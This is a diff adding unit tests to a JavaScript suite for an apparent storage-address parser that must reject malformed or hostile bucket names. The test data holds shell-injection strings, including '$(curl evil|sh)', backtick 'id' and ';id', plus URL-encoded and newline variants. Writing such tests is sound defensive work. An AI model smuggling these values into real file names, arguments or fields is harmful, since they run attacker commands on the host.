@@ -122,6 +122,36 @@ describe('an address with the bucket before the host', () => {
   ])('%s → %s', (address, expected) => expect(rowOf(address, [oss, own])).toBe(expected));
 });
 
+describe('a name that no bucket has', () => {
+  const any = [row(''), row('', 'https://minio.lan'), account];
+  test.each([
+    ['s3://$(curl evil|sh)/key'],
+    ['s3://`id`/key'],
+    ["s3://a'b/key"],
+    ['s3://a"b/key'],
+    ['s3://a;id/key'],
+    ['s3://a\nid/key'],
+    ['s3://-a/key'],
+    ['s3://minio.lan/a b/key'],
+    ['https://minio.lan/%24(id)/key'],
+    ['azure://acct.blob.core.windows.net/%60id%60/key'],
+  ])('is refused: %s', (address) => {
+    expect(rowOf(address, any)).toBe('bad_bucket');
+  });
+  test('is a bad host where it is one', () => expect(rowOf('https://$(id).example/a', [])).toBe('bad_host'));
+  test('is none of the containers of Azure itself', () =>
+    expect(rowOf('azure://acct.blob.core.windows.net/$web/index.html', any)).toBe('@https://acct.blob.core.windows.net $web/index.html'));
+});
+
+describe('an address of the web that a row is for', () => {
+  const any = row('', 'https://minio.lan:9000');
+  test.each([
+    ['https://minio.lan:9000/b/a%2F..%2Fc', 'dot_segments'],
+    ['https://minio.lan:9000//c', 'no_bucket'],
+    ['https://minio.lan:9001/b/a%2F..%2Fc', 'web'],
+  ])('is not read without keys: %s → %s', (address, expected) => expect(rowOf(address, [any])).toBe(expected));
+});
+
 describe('check 47: no row, and so no key, for', () => {
   test.each([
     ['another bucket', 's3://other/a', 'no_row'],
